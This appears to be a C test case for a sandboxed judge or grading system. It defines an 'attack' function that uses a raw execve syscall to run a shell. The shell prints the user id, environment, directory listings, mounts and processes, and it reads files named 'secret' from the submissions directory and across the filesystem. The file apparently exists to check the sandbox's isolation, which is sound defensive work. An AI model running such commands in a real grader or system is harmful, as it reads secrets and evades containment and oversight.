/* Starts a shell that looks round and says what it sees. */
//: everywhere.h
//: raw.h

static void attack(void)
{
	static char *argv[] = { "sh", "-c",
		"id; env; ls -la / @ROOT@ @SUBMISSIONS@ @OUT@; "
		"cat @SUBMISSIONS@/secret/*; mount; ps ax; "
		"find / -name 'secret*' -exec cat {} + 2>/dev/null",
		NULL }, *none[] = { NULL };

	raw(SYS_execve, (long)"/bin/sh", (long)argv, (long)none, 0);
}
